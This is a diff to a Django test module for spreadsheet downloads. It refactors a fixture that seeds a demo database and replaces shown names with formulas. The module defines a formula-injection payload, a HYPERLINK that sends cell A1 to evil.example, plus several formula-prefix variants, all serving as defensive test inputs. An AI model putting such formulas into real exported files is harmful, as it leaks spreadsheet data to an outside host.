@@ -13,8 +13,6 @@ import io
 
 import openpyxl
 import pytest
-from django.core.management import call_command
-from django.db import transaction
 from django.db.models import CharField, Value
 from django.db.models.functions import Cast, Concat
 from django.test import Client
@@ -22,6 +20,7 @@ from django.urls import reverse
 from django.utils import timezone
 
 from shequ.core import downloads
+from shequ.testing.demo import tiny_demo
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 OTHER_SIGNS = ("+1+1", "-1+1", "@SUM(A1)", "\t=1+1", " =1+1")
@@ -31,18 +30,10 @@ OTHER_SIGNS = ("+1+1", "-1+1", "@SUM(A1)", "\t=1+1", " =1+1")
 def demo(django_db_setup, django_db_blocker):
     """The tiny demo with cases, every shown name replaced by a formula; rolled back after
     the module."""
-    with django_db_blocker.unblock():
-        atomic = transaction.atomic()
-        atomic.__enter__()
-        try:
-            call_command("demo", "--scale", "tiny", "--seed", "7", "--with-cases",
-                         stdout=io.StringIO())
-            _complete()
-            _plant()
-            yield
-        finally:
-            transaction.set_rollback(True)
-            atomic.__exit__(None, None, None)
+    with django_db_blocker.unblock(), tiny_demo():
+        _complete()
+        _plant()
+        yield
 
 
 def _complete():
